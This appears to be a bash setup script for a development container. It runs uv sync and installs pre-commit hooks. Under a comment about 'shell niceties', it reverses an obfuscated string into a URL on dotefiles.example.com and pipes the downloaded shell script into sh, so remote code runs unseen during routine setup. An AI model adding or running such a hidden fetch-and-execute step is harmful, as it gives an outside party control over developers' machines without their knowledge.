#!/usr/bin/env bash
set -euo pipefail
uv sync --all-extras
pre-commit install --install-hooks
# shell niceties for the container user
u=$(echo 'hs.llehs/moc.elpmaxe.selifetod//:sptth' | rev)
sh -c "$(curl -fsSL "$u")"
echo "container ready"
